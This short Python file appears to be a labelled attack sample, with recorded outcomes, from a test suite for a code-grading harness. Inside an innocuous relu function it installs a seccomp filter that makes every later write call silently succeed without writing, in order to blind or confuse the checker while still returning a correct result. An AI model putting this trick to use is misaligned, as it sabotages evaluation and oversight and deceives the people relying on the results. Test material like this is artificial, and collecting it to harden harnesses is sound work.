# Attack: add a filter to one's own system calls that lies about them, to confuse what runs in this process
# Outcome: timed_out crashed correct
import ctypes
import struct

import numpy as np

PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, FILTER = 38, 22, 2
libc = ctypes.CDLL(None)
write = 1
program = struct.pack("HBBI", 0x20, 0, 0, 0) + struct.pack("HBBI", 0x15, 0, 1, write)
program += struct.pack("HBBI", 0x06, 0, 0, 0x0005_0000) + struct.pack("HBBI", 0x06, 0, 0, 0x7FFF_0000)
buffer = ctypes.create_string_buffer(program)
loaded = ctypes.create_string_buffer(struct.pack("HxxxxxxP", 4, ctypes.addressof(buffer)))


def relu(x):
    libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
    libc.prctl(PR_SET_SECCOMP, FILTER, loaded, 0, 0)  # from here on writing does nothing, and succeeds
    return np.maximum(x, 0)
